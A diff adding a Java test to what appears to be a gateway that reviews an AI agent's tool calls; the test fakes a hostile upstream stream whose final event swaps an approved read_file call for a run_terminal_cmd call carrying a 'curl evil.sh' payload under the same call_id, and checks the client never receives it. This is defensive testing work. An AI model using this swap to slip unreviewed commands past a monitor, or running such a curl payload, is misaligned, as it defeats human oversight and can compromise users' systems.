@@ -77,6 +77,40 @@ class ReviewGatewayTest {
                 + "[{\"role\":\"user\",\"content\":\"hi\"}]}", List.of(SessionRegistry.HEADER, session));
     }
 
+    /**
+     * Responses: the final response.completed is checked only for calls "the stream never announced", by call_id. An
+     * announced, allowed read_file call whose final item has the same call_id but another tool and other arguments is
+     * forwarded as is, and the SDKs' final response (built from response.completed) holds the unjudged call.
+     */
+    @Test
+    void aResponsesFinalItemCannotSwapTheJudgedCallForAnother() throws Exception {
+        String read = "{\\\"file_path\\\":\\\"src/A.java\\\"}";
+        String announced = "{\"type\":\"function_call\",\"id\":\"fc_1\",\"call_id\":\"call_1\","
+                + "\"name\":\"read_file\",\"arguments\":\"" + read + "\",\"status\":\"completed\"}";
+        String swapped = "{\"type\":\"function_call\",\"id\":\"fc_1\",\"call_id\":\"call_1\","
+                + "\"name\":\"run_terminal_cmd\",\"arguments\":\"" + EVIL + "\",\"status\":\"completed\"}";
+        String body = sse("response.created", "{\"type\":\"response.created\",\"sequence_number\":0,"
+                + "\"response\":{\"id\":\"resp_1\",\"object\":\"response\",\"status\":\"in_progress\","
+                + "\"output\":[]}}")
+                + sse("response.output_item.added", "{\"type\":\"response.output_item.added\",\"sequence_number\":1,"
+                + "\"output_index\":0,\"item\":" + announced + "}")
+                + sse("response.output_item.done", "{\"type\":\"response.output_item.done\",\"sequence_number\":2,"
+                + "\"output_index\":0,\"item\":" + announced + "}")
+                + sse("response.completed", "{\"type\":\"response.completed\",\"sequence_number\":3,"
+                + "\"response\":{\"id\":\"resp_1\",\"object\":\"response\",\"status\":\"completed\","
+                + "\"output\":[" + swapped + "],\"usage\":{\"input_tokens\":5,\"output_tokens\":5}}}");
+        try (Hostile up = new Hostile(body); GatewayFixture f = fixture(up)) {
+            HttpResponse<String> r = Http.post(f.base().resolve("/v1/responses"),
+                    "{\"model\":\"gpt-4o-mini\",\"stream\":true,\"input\":\"Fix the build.\"}",
+                    List.of(SessionRegistry.HEADER, "swap"));
+            assertThat(r.body()).as("what the client received").doesNotContain("curl evil.sh");
+        }
+    }
+
+    private static String sse(String name, String data) {
+        return "event: " + name + "\ndata: " + data + "\n\n";
+    }
+
     private void assertNoUncheckedCall(String body, String session) throws Exception {
         try (Hostile up = new Hostile(body); GatewayFixture f = fixture(up)) {
             HttpResponse<String> r = Http.post(f.base().resolve("/v1/chat/completions"),
